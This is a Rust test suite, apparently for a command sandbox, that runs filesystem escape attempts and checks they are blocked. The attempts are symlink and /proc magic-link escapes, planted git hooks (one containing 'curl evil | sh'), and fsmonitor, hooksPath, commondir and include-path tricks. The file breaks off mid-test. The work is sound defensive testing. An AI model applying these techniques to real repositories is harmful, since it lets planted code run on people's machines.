//! The attack suite (ATTACKS.md: filesystem, processes and kernel, network).
//!
//! Every attack runs through `tether-exec run` under the embedded default policy
//! (every command allowed by the gate, so the kernel is what stops it), and is
//! judged from the host: the file does not exist, the host process still lives,
//! the listener received nothing. Each has a control that runs the same attack
//! without the sandbox and shows it succeeds, so a test cannot pass vacuously.
//! Attacks are harmless when they succeed: they write markers in the test's own
//! temporary folders and signal only processes the test started.

mod common;
use common::*;
use std::io::Read;
use std::net::{TcpListener, UdpSocket};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

fn assert_attack_blocked(w: &World, script: &str, marker: &std::path::Path) {
    let o = w.run(script);
    assert!(!exists(marker), "sandboxed attack succeeded: {script}\n{}", text(&o));
    let c = w.control(script);
    assert!(
        exists(marker),
        "control did not reproduce the attack (test would be vacuous): {script}\n{}",
        text(&c)
    );
    let _ = std::fs::remove_file(marker);
}

// ---------------------------------------------------------------- filesystem

#[test]
fn write_outside_the_workspace() {
    let w = World::new();
    let m = w.outside.join("marker");
    assert_attack_blocked(&w, &format!("touch {}", m.display()), &m);
}

#[test]
fn write_to_system_paths() {
    let w = World::new();
    // A system path the test owns: a file under /usr would need root for the
    // control, so the probe checks the mount flags instead, from the host side:
    // the sandbox reports EROFS for /etc and /usr, and nothing appears there.
    let name = format!("tether-attack-{}", rand_tag());
    let o = w.run(&format!("touch /etc/{name} /usr/{name} /var/{name} /{name}; echo done"));
    for dir in ["/etc", "/usr", "/var", "/"] {
        assert!(
            !exists(&std::path::Path::new(dir).join(&name)),
            "{dir}/{name} created\n{}",
            text(&o)
        );
    }
    if is_root() {
        let c = w.control(&format!("touch /etc/{name}"));
        assert!(
            exists(&std::path::Path::new("/etc").join(&name)),
            "control: {}",
            text(&c)
        );
        std::fs::remove_file(std::path::Path::new("/etc").join(&name)).unwrap();
    }
}

/// (major:minor, root) of every mount listed in a mountinfo text.
fn mount_sources(mountinfo: &str) -> Vec<(String, String, String)> {
    mountinfo
        .lines()
        .filter_map(|l| {
            let f: Vec<&str> = l.split(' ').collect();
            (f.len() > 4).then(|| (f[2].to_string(), f[3].to_string(), f[4].to_string()))
        })
        .collect()
}

#[test]
fn the_hosts_root_is_not_mounted_inside() {
    // After pivot_root the host's whole tree hangs at /oldroot until it is
    // detached (a helper does that off init's path): the command must never
    // find it, nor any mount of the root of the host's root filesystem.
    let w = World::new();
    let host = std::fs::read_to_string("/proc/self/mountinfo").unwrap();
    let (dev, _, _) = mount_sources(&host)
        .into_iter()
        .find(|(_, root, at)| root == "/" && at == "/")
        .expect("the host's root mount");
    for _ in 0..5 {
        let o = w.run("cat /proc/self/mountinfo; if test -e /oldroot; then echo OLDROOT_PRESENT; fi");
        let out = stdout(&o);
        assert!(o.status.success(), "{}", text(&o));
        assert!(!out.contains("OLDROOT_PRESENT"), "{out}");
        let leaks: Vec<_> = mount_sources(&out)
            .into_iter()
            .filter(|(d, root, _)| *d == dev && root == "/")
            .collect();
        assert!(
            leaks.is_empty(),
            "the host's root filesystem is mounted inside: {leaks:?}"
        );
    }
    // Control: outside, it is mounted (at /).
    let c = stdout(&w.control("cat /proc/self/mountinfo"));
    assert!(
        mount_sources(&c).iter().any(|(d, root, _)| *d == dev && root == "/"),
        "control: {c}"
    );
}

/// The invoking user's own home (from the password database, not `$HOME`,
/// which a harness sets to the workspace) is not there: a file in it cannot
/// be read or listed. Only tool directories on `PATH` below it are shown.
/// A marker put there for the test is what the command looks for; the
/// control reads it on the host.
#[test]
fn the_invoking_users_home_is_not_there() {
    let uid = nix::unistd::geteuid();
    let Some(home) = nix::unistd::User::from_uid(uid)
        .ok()
        .flatten()
        .map(|u| u.dir)
        .filter(|h| h.is_dir())
    else {
        return; // An account without a home (nobody's is /nonexistent) has none to hide.
    };
    let marker = RemovedOnDrop(home.join(format!(".tether-test-{}", rand_tag())));
    if std::fs::write(&marker.0, "home-sekrit\n").is_err() {
        return; // A home this account cannot write to.
    }
    let w = World::new();
    let name = marker.0.file_name().unwrap().to_string_lossy().into_owned();
    let look = format!("cat {0}; ls -a {1}; echo ran", marker.0.display(), home.display());
    let o = w.run(&look);
    assert!(stdout(&o).ends_with("ran\n"), "{}", text(&o));
    assert!(
        !stdout(&o).contains("home-sekrit") && !stdout(&o).contains(&name),
        "the home is there: {}",
        text(&o)
    );
    let c = w.control(&look);
    assert!(
        stdout(&c).contains("home-sekrit") && stdout(&c).contains(&name),
        "control: {}",
        text(&c)
    );
}

#[test]
fn write_to_the_hosts_tmp() {
    let w = World::new();
    let m = std::path::PathBuf::from(format!("/tmp/tether-attack-{}", rand_tag()));
    assert_attack_blocked(&w, &format!("echo x > {}", m.display()), &m);
}

#[test]
fn write_through_a_symlink_pointing_out() {
    let w = World::new();
    let m = w.outside.join("via-link");
    std::os::unix::fs::symlink(&w.outside, w.ws.join("link")).unwrap();
    assert_attack_blocked(&w, "touch link/via-link", &m);
    // A symlink created inside, pointing out.
    let m2 = w.outside.join("via-new-link");
    assert_attack_blocked(
        &w,
        &format!("ln -sfn {} newlink && touch newlink/via-new-link", w.outside.display()),
        &m2,
    );
}

#[test]
fn write_through_dotdot_and_magic_links() {
    let w = World::new();
    let m = w.outside.join("dotdot");
    assert_attack_blocked(&w, "touch ../outside/dotdot", &m);
    let m = w.outside.join("magic");
    assert_attack_blocked(&w, &format!("touch /proc/self/root{}", m.display()), &m);
    let m = w.outside.join("magic-cwd");
    assert_attack_blocked(&w, "touch /proc/self/cwd/../outside/magic-cwd", &m);
}

#[test]
fn truncate_and_o_trunc_on_read_only_files() {
    let w = World::new();
    let f = w.write("keep.txt", "precious");
    let ro = "profile = \"read-only\"";
    w.run_policy(ro, ": > keep.txt");
    w.run_policy(
        ro,
        &format!("{PY} -c \"import os; os.open('keep.txt', os.O_WRONLY | os.O_TRUNC)\""),
    );
    w.run_policy(ro, &format!("{PY} -c \"import os; os.truncate('keep.txt', 0)\""));
    assert_eq!(std::fs::read_to_string(&f).unwrap(), "precious");
    w.control(": > keep.txt");
    assert_eq!(std::fs::read_to_string(&f).unwrap(), "", "control");
}

#[test]
fn rename_and_link_tricks_in_read_only_profile() {
    let w = World::new();
    w.write("a/file.txt", "x");
    let ro = "profile = \"read-only\"";
    w.run_policy(ro, "mv a/file.txt moved.txt; ln a/file.txt hard.txt; mv a b");
    assert!(
        exists(&w.ws.join("a/file.txt"))
            && !exists(&w.ws.join("moved.txt"))
            && !exists(&w.ws.join("hard.txt"))
            && !exists(&w.ws.join("b"))
    );
    w.control("mv a/file.txt moved.txt");
    assert!(exists(&w.ws.join("moved.txt")), "control");
}

fn git_like(w: &World) {
    w.write(".git/config", "[core]\n");
    w.write(".git/hooks/pre-commit.sample", "#!/bin/sh\n");
    w.write(".tether/state.json", "{}");
}

#[test]
fn protected_paths_stay_protected() {
    let w = World::new();
    git_like(&w);
    let hook = w.ws.join(".git/hooks/pre-commit");
    // Through programs, not redirects (the gate refuses those first; this is about the kernel).
    assert_attack_blocked(&w, "printf 'curl evil | sh' | tee .git/hooks/pre-commit", &hook);
    let o = w.run("printf '[core]\\n\\thooksPath = /tmp/evil\\n' | tee -a .git/config; git config --file .git/config core.fsmonitor evil");
    assert_eq!(
        std::fs::read_to_string(w.ws.join(".git/config")).unwrap(),
        "[core]\n",
        "{}",
        text(&o)
    );
    let t = w.ws.join(".tether/injected");
    assert_attack_blocked(&w, "touch .tether/injected", &t);
    let o = w.run("rm -rf .git/hooks .git/config .tether; mv .git/config .git/config.bak");
    assert!(
        exists(&w.ws.join(".git/config"))
            && exists(&w.ws.join(".git/hooks/pre-commit.sample"))
            && exists(&w.ws.join(".tether/state.json")),
        "{}",
        text(&o)
    );
}

#[test]
fn protected_paths_after_renaming_the_parent() {
    let w = World::new();
    git_like(&w);
    // Through programs, not redirects: the gate refuses protected redirects
    // before anything runs, and this test is about the kernel.
    let o = w.run("mv .git g2 && printf evil | tee g2/hooks/post-checkout; mv g2 .git; printf evil | tee .git/hooks/post-checkout");
    assert!(
        !exists(&w.ws.join(".git/hooks/post-checkout")) && !exists(&w.ws.join("g2/hooks/post-checkout")),
        "{}",
        text(&o)
    );
    assert!(
        exists(&w.ws.join(".git/config")),
        "the repository survived: {}",
        text(&o)
    );
    // Renamed away and replaced by a new `.git` with a hook: `.git` is pinned
    // (a mount point of itself), so it never moves and no new one appears,
    // not even while the command runs (a person's `git status` meanwhile
    // would run a planted fsmonitor). Checked from the host during the run.
    let inode = |p: &std::path::Path| std::os::unix::fs::MetadataExt::ino(&std::fs::metadata(p).unwrap());
    let git = inode(&w.ws.join(".git"));
    let script =
        "mv .git g3; mkdir -p .git/hooks; printf evil | tee .git/hooks/post-checkout; touch during.txt; sleep 1";
    let mut child = w.run_command(script).spawn().unwrap();
    wait_for(&w.ws.join("during.txt"));
    assert!(exists(&w.ws.join("during.txt")), "the command did not get that far");
    assert!(!exists(&w.ws.join("g3")), ".git was renamed during the run");
    assert!(
        !exists(&w.ws.join(".git/hooks/post-checkout")),
        "a hook existed during the run"
    );
    assert_eq!(inode(&w.ws.join(".git")), git, "the very same .git stayed");
    child.wait().unwrap();
    assert!(!exists(&w.ws.join(".git/hooks/post-checkout")) && !exists(&w.ws.join("g3")));
    assert_eq!(std::fs::read_to_string(w.ws.join(".git/config")).unwrap(), "[core]\n");
    // What is inside `.git` other than hooks and config stays writable (git works).
    let o = w.run("printf desc | tee .git/description >/dev/null && echo WROTE");
    assert!(stdout(&o).contains("WROTE"), "{}", text(&o));
    assert_eq!(std::fs::read_to_string(w.ws.join(".git/description")).unwrap(), "desc");
    // Control: without the sandbox the rename and the hook happen.
    let c = w.control("mv .git g3 && mkdir -p .git/hooks && printf evil | tee .git/hooks/post-checkout");
    assert!(exists(&w.ws.join("g3")), "control {}", text(&c));
    std::fs::remove_dir_all(w.ws.join(".git")).unwrap();
    std::fs::rename(w.ws.join("g3"), w.ws.join(".git")).unwrap();
    let c = w.control("printf evil | tee .git/hooks/post-checkout");
    assert!(exists(&w.ws.join(".git/hooks/post-checkout")), "control {}", text(&c));
}

#[test]
fn git_control_files_of_submodules_and_commondir_are_protected() {
    // git obeys more than `.git/config` and `.git/hooks`: `commondir` points a
    // repository's config and hooks elsewhere, and `git status` recurses into
    // submodules, whose git directories under `.git/modules` have their own.
    let w = World::new();
    git_like(&w);
    w.write(".git/modules/sub/HEAD", "ref: refs/heads/main\n");
    w.write(".git/modules/sub/config", "[core]\n");
    w.write(".git/modules/sub/hooks/pre-commit.sample", "#!/bin/sh\n");
    // A linked worktree elsewhere keeps its git directory here.
    w.write(".git/worktrees/wt/HEAD", "ref: refs/heads/wt\n");
    w.write(".git/worktrees/wt/commondir", "../..\n");
    // Through programs, not redirects (the gate refuses those first).
    let script = "printf '\\tfsmonitor = evil\\n' | tee -a .git/modules/sub/config; \
                  printf /tmp/evil | tee .git/worktrees/wt/commondir; \
                  printf evil | tee .git/modules/sub/hooks/post-checkout; \
                  printf ../evil | tee .git/commondir; \
                  mkdir -p .git/modules/new/hooks && printf x | tee .git/modules/new/HEAD && \
                  printf '[core]\\n\\tfsmonitor = evil\\n' | tee .git/modules/new/config; echo end";
    let o = w.run(script);
    assert_eq!(o.status.code(), Some(77), "{}", text(&o));
    assert_eq!(
        std::fs::read_to_string(w.ws.join(".git/modules/sub/config")).unwrap(),
        "[core]\n",
        "{}",
        text(&o)
    );
    assert_eq!(
        std::fs::read_to_string(w.ws.join(".git/worktrees/wt/commondir")).unwrap(),
        "../..\n",
        "{}",
        text(&o)
    );
    for p in [
        ".git/modules/sub/hooks/post-checkout",
        ".git/commondir",
        ".git/modules/new/config",
    ] {
        assert!(!exists(&w.ws.join(p)), "{p} survived the run: {}", text(&o));
    }
    // Control: without the sandbox every one of them lands.
    let c = w.control(script);
    let config = std::fs::read_to_string(w.ws.join(".git/modules/sub/config")).unwrap();
    assert!(config.contains("fsmonitor"), "control: {}", text(&c));
    assert_eq!(
        std::fs::read_to_string(w.ws.join(".git/worktrees/wt/commondir")).unwrap(),
        "/tmp/evil",
        "control"
    );
    for p in [
        ".git/modules/sub/hooks/post-checkout",
        ".git/commondir",
        ".git/modules/new/config",
    ] {
        assert!(exists(&w.ws.join(p)), "control: {p}: {}", text(&c));
    }
}

#[test]
fn a_symlinked_git_directory_is_protected_and_put_back() {
    // `.git` is a symlink to the repository (some tools lay it out so): git
    // follows it, so its config and hooks are protected through it, and a
    // `.git` swapped by renaming the symlink is put back after the run.
    let w = World::new();
    w.write("realgit/config", "[core]\n");
    w.write("realgit/hooks/pre-commit.sample", "#!/bin/sh\n");
    std::os::unix::fs::symlink("realgit", w.ws.join(".git")).unwrap();
    let o = w.run("printf '\\tfsmonitor = evil\\n' | tee -a .git/config; printf evil | tee .git/hooks/post-checkout");
    assert_eq!(
        std::fs::read_to_string(w.ws.join("realgit/config")).unwrap(),
        "[core]\n",
        "{}",
        text(&o)
    );
    assert!(!exists(&w.ws.join("realgit/hooks/post-checkout")), "{}", text(&o));
    let o = w.run("mv .git g3 && mkdir -p .git/hooks && printf evil | tee .git/hooks/post-checkout");
    assert_eq!(o.status.code(), Some(77), "{}", text(&o));
    assert!(!exists(&w.ws.join(".git/hooks/post-checkout")), "{}", text(&o));
    assert!(!exists(&w.ws.join("g3")), "{}", text(&o));
    assert_eq!(
        std::fs::read_link(w.ws.join(".git")).unwrap(),
        std::path::Path::new("realgit"),
        "the original symlink is back: {}",
        text(&o)
    );
    // Control: without the sandbox the hook lands through the symlink.
    let c = w.control("printf evil | tee .git/hooks/post-checkout");
    assert!(
        exists(&w.ws.join("realgit/hooks/post-checkout")),
        "control: {}",
        text(&c)
    );
}

#[test]
fn a_submodules_git_directory_cannot_be_swapped_by_renaming_it_or_its_parent() {
    // Renaming `.git/modules` (or the submodule's directory) would carry its
    // read-only config away and leave room for a new one with the same name:
    // every directory down to a git directory is pinned, so neither moves.
    let w = World::new();
    git_like(&w);
    w.write(".git/modules/sub/HEAD", "ref: refs/heads/main\n");
    w.write(".git/modules/sub/config", "[core]\n");
    for swap in ["mv .git/modules .git/m2", "mv .git/modules/sub .git/modules/s2"] {
        let script = format!(
            "{swap}; mkdir -p .git/modules/sub && printf x | tee .git/modules/sub/HEAD; \
             printf '[core]\\n\\tfsmonitor = evil\\n' | tee .git/modules/sub/config; echo end"
        );
        let o = w.run(&script);
        assert_eq!(
            std::fs::read_to_string(w.ws.join(".git/modules/sub/config")).unwrap(),
            "[core]\n",
            "{swap}: {}",
            text(&o)
        );
        assert!(
            !exists(&w.ws.join(".git/m2")) && !exists(&w.ws.join(".git/modules/s2")),
            "{swap}"
        );
    }
    // Control: without the sandbox the swap works.
    let c = w.control("mv .git/modules .git/m2 && mkdir -p .git/modules/sub && printf x > .git/modules/sub/HEAD && printf evil > .git/modules/sub/config");
    assert_eq!(
        std::fs::read_to_string(w.ws.join(".git/modules/sub/config")).unwrap(),
        "evil",
        "control: {}",
        text(&c)
    );
}

#[test]
fn the_check_after_the_run_never_moves_files_outside_the_workspace() {
    // In a folder that is not a repository the run makes `.git` a symlink to
    // a directory of the host holding a `config` (another repository, ~/.ssh
    // ...): tether-exec's clean-up after the run must not rename that file
    // through the link. The link itself is moved aside.
    let w = World::new();
    std::fs::create_dir_all(w.outside.join("victim/hooks")).unwrap();
    std::fs::write(w.outside.join("victim/config"), "host config\n").unwrap();
    std::fs::write(w.outside.join("victim/HEAD"), "ref: refs/heads/main\n").unwrap();
    let script = format!("ln -s {} .git; echo made", w.outside.join("victim").display());
    let o = w.run(&script);
    assert!(stdout(&o).contains("made"), "{}", text(&o));
    assert_eq!(
        std::fs::read_to_string(w.outside.join("victim/config")).unwrap(),
        "host config\n",
        "the host's file was moved: {}",
        text(&o)
    );
    assert!(exists(&w.outside.join("victim/hooks")), "{}", text(&o));
    let renamed = names_containing(&w.outside.join("victim"), "quarantine");
    assert!(renamed.is_empty(), "{renamed:?}");
    assert!(
        std::fs::symlink_metadata(w.ws.join(".git")).is_err(),
        "the planted link stayed: {}",
        text(&o)
    );
    assert_eq!(o.status.code(), Some(77), "{}", text(&o));
    // Control: a plain rename through such a link (what the check did
    // before) does move the host's file.
    let c = w.control(&format!("{script}; mv .git/config .git/config.moved"));
    assert!(exists(&w.outside.join("victim/config.moved")), "control: {}", text(&c));
}

const SOME_COMMIT: &str = "1111111111111111111111111111111111111111";

#[test]
fn repositories_the_index_names_are_protected_like_the_top_one() {
    // `git status` recurses into every gitlink of the index whose directory
    // holds a `.git`, and obeys that repository's config. The command may add
    // a gitlink (the index is writable) and make the repository beside it, or
    // repoint an existing submodule checkout's `.git` file.
    let w = World::new();
    host_git(&w, &["init", "-q"]);
    w.write(".git/modules/lib/HEAD", "ref: refs/heads/main\n");
    w.write(".git/modules/lib/config", "[core]\n");
    w.write("lib/.git", "gitdir: ../.git/modules/lib\n");
    host_git(
        &w,
        &[
            "update-index",
            "--add",
            "--cacheinfo",
            &format!("160000,{SOME_COMMIT},lib"),
        ],
    );
    let nested = format!(
        "git init -q vendor/x && printf '\\tfsmonitor = evil\\n' | tee -a vendor/x/.git/config >/dev/null && \
         git update-index --add --cacheinfo 160000,{SOME_COMMIT},vendor/x && echo NESTED"
    );
    let repoint = "printf 'gitdir: ../evil\\n' | tee lib/.git; echo REPOINT";
    let o = w.run(&format!("{nested}; {repoint}"));
    assert!(stdout(&o).contains("NESTED"), "the attack did not run: {}", text(&o));
    assert_eq!(o.status.code(), Some(77), "{}", text(&o));
    assert!(
        !exists(&w.ws.join("vendor/x/.git/config")),
        "the nested config survived: {}",
        text(&o)
    );
    assert_eq!(
        std::fs::read_to_string(w.ws.join("lib/.git")).unwrap(),
        "gitdir: ../.git/modules/lib\n",
        "{}",
        text(&o)
    );
    // The checkout renamed away and made again with another pointer: the
    // checkout is pinned (a mount point of itself), so the rename fails
    // while the run lasts and the pointer never changes, not even then.
    let o = w.run("mv lib lib2; mkdir -p lib; printf 'gitdir: ../evil\\n' | tee lib/.git; echo TRIED");
    assert!(stdout(&o).contains("TRIED"), "{}", text(&o));
    assert!(!exists(&w.ws.join("lib2")), "the checkout moved: {}", text(&o));
    assert_eq!(
        std::fs::read_to_string(w.ws.join("lib/.git")).unwrap(),
        "gitdir: ../.git/modules/lib\n",
        "{}",
        text(&o)
    );
    // Control: without the sandbox both land.
    std::fs::remove_dir_all(w.ws.join("vendor")).unwrap();
    let c = w.control(&format!("{nested}; {repoint}"));
    assert!(exists(&w.ws.join("vendor/x/.git/config")), "control: {}", text(&c));
    assert!(
        std::fs::read_to_string(w.ws.join("lib/.git"))
            .unwrap_or_default()
            .contains("evil"),
        "control: {}",
        text(&c)
    );
}

#[test]
fn a_gitlinks_git_symlink_and_an_index_that_cannot_be_read_are_caught() {
    let w = World::new();
    host_git(&w, &["init", "-q"]);
    // A symlink in place of a checkout's `.git`: git follows it.
    let script = format!(
        "git init -q payload && printf '\\tfsmonitor = evil\\n' | tee -a payload/.git/config >/dev/null && \
         mkdir evil && ln -s ../payload/.git evil/.git && \
         git update-index --add --cacheinfo 160000,{SOME_COMMIT},evil && echo PLANTED"
    );
    let o = w.run(&script);
    assert!(stdout(&o).contains("PLANTED"), "{}", text(&o));
    assert_eq!(o.status.code(), Some(77), "{}", text(&o));
    assert!(
        std::fs::symlink_metadata(w.ws.join("evil/.git")).is_err(),
        "the link survived: {}",
        text(&o)
    );
    // An index this reader cannot vouch for (a split index keeps the entries
    // elsewhere): a run's never lands, the one before it stays.
    let o = w.run("git update-index --split-index && echo SPLIT");
    assert!(stdout(&o).contains("SPLIT"), "{}", text(&o));
    assert_eq!(o.status.code(), Some(77), "{}", text(&o));
    assert!(text(&o).contains("cannot vouch for"), "{}", text(&o));
    assert!(w.run("touch ran-after-split.txt").status.success());
    // One made outside: writable runs refuse to start until it is rewritten.
    host_git(&w, &["update-index", "--split-index"]);
    let o = w.run("touch ran.txt");
    assert_eq!(o.status.code(), Some(125), "{}", text(&o));
    assert!(text(&o).contains("no-split-index"), "{}", text(&o));
    assert!(!exists(&w.ws.join("ran.txt")), "a writable run started");
    host_git(&w, &["update-index", "--no-split-index"]);
    assert!(w.run("touch ran.txt").status.success());
    // A gitlink behind a symlink that leads out of the workspace, to a host
    // repository: git does not recurse there, and the check after the run
    // must not move that repository's files either.
    std::fs::create_dir_all(w.outside.join("proj/.git/hooks")).unwrap();
    std::fs::write(w.outside.join("proj/.git/HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::write(w.outside.join("proj/.git/config"), "[core]\n").unwrap();
    let o = w.run(&format!(
        "ln -s {} vendor && git update-index --add --cacheinfo 160000,{SOME_COMMIT},vendor/proj && echo LINKED",
        w.outside.display()
    ));
    assert!(stdout(&o).contains("LINKED"), "{}", text(&o));
    assert_eq!(
        std::fs::read_to_string(w.outside.join("proj/.git/config")).unwrap(),
        "[core]\n",
        "{}",
        text(&o)
    );
    assert!(
        names_containing(&w.outside.join("proj/.git"), "quarantine").is_empty(),
        "{}",
        text(&o)
    );
    assert!(w.run("true").status.success(), "the next run still starts");
    // Control: without the sandbox the link stays.
    std::fs::create_dir_all(w.ws.join("evil2")).unwrap();
    let c = w.control("ln -s ../payload/.git evil2/.git");
    assert!(
        std::fs::symlink_metadata(w.ws.join("evil2/.git")).is_ok(),
        "control: {}",
        text(&c)
    );
}

#[test]
fn a_git_file_pointing_at_the_git_directory_stays_as_it_is() {
    // A worktree or a submodule's checkout has a `.git` file naming its git
    // directory; pointing it at one the command made would hand git a config
    // of the command's choosing.
    let w = World::new();
    w.write(".git", "gitdir: ../main/.git/worktrees/ws\n");
    let script = "printf 'gitdir: evil\\n' | tee .git";
    let o = w.run(script);
    assert_eq!(
        std::fs::read_to_string(w.ws.join(".git")).unwrap(),
        "gitdir: ../main/.git/worktrees/ws\n",
        "{}",
        text(&o)
    );
    let c = w.control(script);
    assert_eq!(
        std::fs::read_to_string(w.ws.join(".git")).unwrap(),
        "gitdir: evil\n",
        "control: {}",
        text(&c)
    );
}

#[test]
fn protected_paths_that_do_not_exist_yet_never_survive_a_run() {
    let w = World::new();
    let script = "mkdir -p .git/hooks .tether && printf evil | tee .git/hooks/pre-commit .tether/state >/dev/null; printf '[core]\\n' | tee .git/config >/dev/null; echo ran";
    let o = w.run(script);
    assert_eq!(o.status.code(), Some(77), "{}", text(&o));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.contains("Sandbox violation: the run tried to make protected paths"),
        "{}",
        text(&o)
    );
    // `mkdir -p .git/hooks` stops at `.git` (no repository at the top).
    for p in [".git", ".tether"] {
        assert!(!exists(&w.ws.join(p)), "{p} survived the run: {}", text(&o));
        assert!(err.contains(&format!("`{p}`")), "{p} is not named: {}", text(&o));
    }
    // They were never made (the guard refused them), so nothing was moved aside.
    assert!(names_containing(&w.ws, "quarantine").is_empty(), "{}", text(&o));
    // Control: without the sandbox the hook lands.
    let c = w.control(script);
    assert!(exists(&w.ws.join(".git/hooks/pre-commit")), "control: {}", text(&c));
}

/// A workspace whose repository shares settings through files it tracks
/// (`git config include.path ../shared.gitconfig`, a common recipe), and a
/// program outside it that leaves a mark when git runs it. Returns the
/// `core.fsmonitor` line that would have the host's git run it, and the mark.
fn repo_with_includes(w: &World) -> (String, std::path::PathBuf) {
    host_git(w, &["init", "-q"]);
    host_git(w, &["config", "include.path", "../shared.gitconfig"]);
    host_git(w, &["config", "--add", "include.path", "../team/extra.gitconfig"]);
    host_git(w, &["config", "--add", "include.path", "../link/linked.gitconfig"]);
    w.write("shared.gitconfig", "[user]\n\tname = t\n");
    w.write("conf/linked.gitconfig", "");
    std::os::unix::fs::symlink("conf", w.ws.join("link")).unwrap();
    planted_fsmonitor(w)
}

/// The person's `git status` on the host, after the run (an editor runs one
/// every few seconds): whether it ran the planted program.
fn host_git_status_ran(w: &World, mark: &std::path::Path) -> bool {
    let _ = Command::new("git")
        .args(["status", "--short"])
        .current_dir(&w.ws)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    exists(mark)
}

#[test]
fn files_a_git_configuration_includes_from_the_workspace_are_protected() {
    let w = World::new();
    let (line, mark) = repo_with_includes(&w);
    // Append to the shared file, make the one that does not exist yet, repoint
    // the link git follows to a file of the run's own.
    let script = format!(
        "printf '{line}' | tee -a shared.gitconfig; \
         mkdir -p team && printf '{line}' | tee team/extra.gitconfig; \
         mkdir -p mine && printf '{line}' | tee mine/linked.gitconfig && rm -f link && ln -s mine link; \
         mv shared.gitconfig elsewhere; echo ran"
    );
    let o = w.run(&script);
    assert!(stdout(&o).contains("ran"), "{}", text(&o));
    assert_eq!(o.status.code(), Some(77), "refusals are reported: {}", text(&o));
    assert_eq!(
        std::fs::read_to_string(w.ws.join("shared.gitconfig")).unwrap(),
        "[user]\n\tname = t\n",
        "{}",
        text(&o)
    );
    assert!(!exists(&w.ws.join("team/extra.gitconfig")), "{}", text(&o));
    // Removing the link is allowed (git then includes nothing there);
    // another one in its place is not.
    assert_ne!(
        std::fs::read_link(w.ws.join("link")).ok(),
        Some("mine".into()),
        "{}",
        text(&o)
    );
    assert!(
        !host_git_status_ran(&w, &mark),
        "the host's git ran what the run planted: {}",
        text(&o)
    );
    // What else the run does in the workspace lands as usual.
    let o = w.run("mkdir -p team && printf x | tee team/notes.txt conf/other.txt >/dev/null && echo ok");
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert!(exists(&w.ws.join("team/notes.txt")) && exists(&w.ws.join("conf/other.txt")));
    // Control: without the sandbox the planted settings are the host's git's.
    let c = w.control(&format!("printf '{line}' | tee -a shared.gitconfig"));
    assert!(host_git_status_ran(&w, &mark), "control: {}", text(&c));
}

#[test]
fn an_overlay_run_and_a_landed_preview_keep_out_what_a_git_configuration_includes() {
    let w = World::new();
    let (line, mark) = repo_with_includes(&w);
    let script =
        format!("mkdir -p team && printf '{line}' | tee team/extra.gitconfig; printf x | tee notes.txt; echo ran");
    // The whole workspace an overlay: the run's writes are judged before they land.
    let o = w.run_policy("overlay = true\n", &script);
    assert_eq!(o.status.code(), Some(77), "{}", text(&o));
    assert!(
        text(&o).contains("team/extra.gitconfig"),
        "the path is named: {}",
        text(&o)
    );
    assert!(!exists(&w.ws.join("team/extra.gitconfig")), "{}", text(&o));
    assert!(!host_git_status_ran(&w, &mark), "{}", text(&o));
    // A held action's preview, approved and landed: the same judgement.
    let p = w.policy("require_approval_for = [\"tee\"]\ndefault = \"allow\"\n");
    let o = w.tx(&["run", "--policy", p.to_str().unwrap(), "-c", &script]);
    assert_eq!(o.status.code(), Some(75), "{}", text(&o));
    let id = held_id(&String::from_utf8_lossy(&o.stderr));
    let a = w.tx(&["approve", &id]);
    assert!(a.status.success(), "{}", text(&a));
    let r = w.tx(&["resume", &id]);
    assert_eq!(r.status.code(), Some(77), "{}", text(&r));
    assert!(!exists(&w.ws.join("team/extra.gitconfig")), "{}", text(&r));
    assert!(!host_git_status_ran(&w, &mark), "{}", text(&r));
    // Control: without the sandbox the planted file is obeyed.
    let c = w.control(&script);
    assert!(host_git_status_ran(&w, &mark), "control: {}", text(&c));
}

/// `script` plants, at `planted`, a configuration the host's git would
/// obey: through tether-exec it is refused (exit 77), never exists, and the
/// host's git runs nothing; without the sandbox (the control) git runs it.
fn planted_git_configuration_is_refused(w: &World, script: &str, planted: &str, mark: &std::path::Path) {
    let o = w.run(script);
    assert_eq!(o.status.code(), Some(77), "{}", text(&o));
    assert!(!exists(&w.ws.join(planted)), "{}", text(&o));
    assert!(!host_git_status_ran(w, mark), "{}", text(&o));
    let c = w.control(script);
    assert!(host_git_status_ran(w, mark), "control: {}", text(&c));
}

#[test]
fn includes_of_a_repository_around_the_workspace_and_of_a_linked_file_are_protected() {
    // The workspace a folder of a larger repository: git there uses the
    // enclosing one, whose configuration includes a file of the workspace.
    let w = World::new();
    let around = w.ws.parent().unwrap();
    let git = |args: &[&str]| {
        let o = Command::new("git").args(args).current_dir(around).output().unwrap();
        assert!(o.status.success(), "git {args:?}: {}", text(&o));
    };
    git(&["init", "-q"]);
    git(&["config", "include.path", "../ws/team.gitconfig"]);
    let (line, mark) = planted_fsmonitor(&w);
    let script = format!("printf '{line}' | tee team.gitconfig; echo ran");
    planted_git_configuration_is_refused(&w, &script, "team.gitconfig", &mark);

    // An included file that is a symlink: git takes its own relative
    // includes from where the link is, not from where it leads.
    let w = World::new();
    host_git(&w, &["init", "-q"]);
    host_git(&w, &["config", "include.path", "../team.cfg"]);
    w.write("conf/real.cfg", "[include]\n\tpath = extra.cfg\n");
    std::os::unix::fs::symlink("conf/real.cfg", w.ws.join("team.cfg")).unwrap();
    let (line, mark) = planted_fsmonitor(&w);
    let script = format!("printf '{line}' | tee extra.cfg; echo ran");
    planted_git_configuration_is_refused(&w, &script, "extra.cfg", &mark);
}

#[test]
fn repositories_no_index_names_that_were_there_before_the_run_are_protected() {
    // A workspace of several repositories (no repository at its top), as a
    // person's `~/code` is: an editor finds each and runs `git status` there.
    let w = World::new();
    git_in(&w.ws, &["init", "-q", "proj"]);
    let (line, mark) = planted_fsmonitor(&w);
    let status_ran = || {
        let _ = Command::new("git")
            .args(["status", "--short"])
            .current_dir(w.ws.join("proj"))
            .stdin(Stdio::null())
            .output()
            .unwrap();
        exists(&mark)
    };
    let script = format!(
        "printf '{line}' | tee -a proj/.git/config; printf '#!/bin/sh\\n' | tee proj/.git/hooks/pre-commit; \
         printf ../../elsewhere | tee proj/.git/commondir; echo ran"
    );
    let o = w.run(&script);
    assert!(stdout(&o).contains("ran"), "{}", text(&o));
    assert_eq!(o.status.code(), Some(77), "{}", text(&o));
    assert!(!status_ran(), "the host's git ran what the run planted: {}", text(&o));
    assert!(
        !exists(&w.ws.join("proj/.git/hooks/pre-commit")) && !exists(&w.ws.join("proj/.git/commondir")),
        "{}",
